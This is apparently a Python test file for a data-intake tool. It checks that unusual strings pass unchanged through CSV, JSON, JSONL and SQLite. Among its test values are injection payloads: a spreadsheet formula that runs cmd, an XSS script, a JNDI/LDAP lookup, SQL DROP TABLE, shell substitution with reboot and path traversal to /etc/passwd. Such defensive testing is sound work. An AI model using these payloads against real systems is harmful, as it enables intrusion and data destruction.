"""Texts that must come out of every format exactly as they went in: nothing folded, trimmed, rounded or run."""

import csv
import io
import json
import sqlite3

from tests.intake.traps.trap import Trap

TEXTS = {
    "right-to-left override": "gnp\u202egpj.exe",
    "isolates": "\u2066a\u2067b\u2068c\u2069",
    "zero-width space": "heron\u200b",
    "zero-width joiner": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "soft hyphen": "he\u00adron",
    "mark in the middle": "her\ufeffon",
    "Kelvin sign": "\u212aestrel",
    "dotless i": "\u0131nvented \u0130",
    "long s": "\u017ftone",
    "sharp s": "gro\u00df GRO\u1e9e",
    "composed": "caf\u00e9",
    "decomposed": "cafe\u0301",
    "stacked marks": "Z" + "\u0351\u036b\u0343" * 20,
    "Cyrillic look-alike": "h\u0435ron",
    "full-width": "\uff48\uff45\uff52\uff4f\uff4e",
    "ligature": "o\ufb03ce",
    "Arabic digits": "\u0661\u0662\u0663",
    "flag": "\U0001f1e9\U0001f1f0",
    "private use": "\ue000\U000f0000",
    "non-characters": "\ufdd0\uffff\U0010ffff",
    "control characters": "\x01\x02\x07\x08\x1b[31m\x7f",
    "C1 controls": "\x80\x9f",
    "unit separators": "a\x1fb\x1ec",
    "tabs": "\ta\t",
    "blanks around": "  a  ",
    "no-break blanks": "\u00a0a\u202f\u3000",
    "quotes and commas": "a\"b,c'd`e",
    "backslashes": "a\\nb\\",
    "line ends": "a\nb\r\nc",
    "underscored number": "1_000",
    "leading zeros": "007",
    "leading plus": "+4500000000",
    "exponent": "1e5",
    "hexadecimal": "0x1F",
    "minus nothing": "-0",
    "over sixty-four bits": "25000000000000000001",
    "over sixty-three bits": "9223372036854775808",
    "many decimals": "0.1000000000000000055511151231257827",
    "NaN": "NaN",
    "Infinity": "-Infinity",
    "null in words": "NULL",
    "none in words": "None",
    "true in words": "true",
    "a date a spreadsheet would turn": "1-2",
    "a gene a spreadsheet would turn": "SEPT2",
    "formula": "=cmd|' /C calc'!A0",
    "formula with plus": "+1+1",
    "formula with minus": "-2+3",
    "formula with at": "@SUM(1,1)",
    "formula behind a tab": "\t=1+1",
    "hyperlink formula": '=HYPERLINK("https://a.example","b")',
    "script": "<script>alert(1)</script>",
    "template": "{{7*7}}${7*7}#{7*7}",
    "look-up": "${jndi:ldap://a.example/x}",
    "statement": "'; DROP TABLE persons; --",
    "format directives": "%s%n%x%08x",
    "shell": "$(reboot) `id` | cat",
    "path": "../../etc/passwd",
    "device name": "C:\\CON.txt",
    "address of nobody": "javascript:alert(1)",
    "percent coding": "%00%0a%2e",
    "escape sequences": "\\u0041\\x41\\101",
    "replacement character": "a\ufffdb",
    "long": "x" * 70_000,
}


def as_csv(text: str) -> bytes:
    told = io.StringIO(newline="")
    csv.writer(told, lineterminator="\n").writerows([["id", "value"], ["1", text]])
    return told.getvalue().encode()


def as_json(text: str) -> bytes:
    return json.dumps([{"id": "1", "value": text}]).encode()


def as_json_lines(text: str) -> bytes:
    return json.dumps({"id": "1", "value": text}, ensure_ascii=False).encode() + b"\n"


def as_sqlite(text: str) -> bytes:
    opened = sqlite3.connect(":memory:")
    opened.execute("CREATE TABLE rows (id TEXT, value TEXT)")
    opened.execute("INSERT INTO rows VALUES ('1', ?)", [text])
    opened.commit()
    return opened.serialize()


FORMATS = {"csv": as_csv, "json": as_json, "jsonl": as_json_lines, "sqlite": as_sqlite}
TRAPS = [
    Trap(f"text: {name} in {reader}", reader, (lambda write=write, text=text: write(text)), [("1", text)])
    for name, text in TEXTS.items()
    for reader, write in FORMATS.items()
]
TRAPS += [
    Trap(f"text: NUL in {reader}", reader, as_it("a\0b"), [], ["NUL character"])
    for reader, as_it in (("csv", as_csv), ("json", as_json), ("jsonl", as_json_lines), ("sqlite", as_sqlite))
]
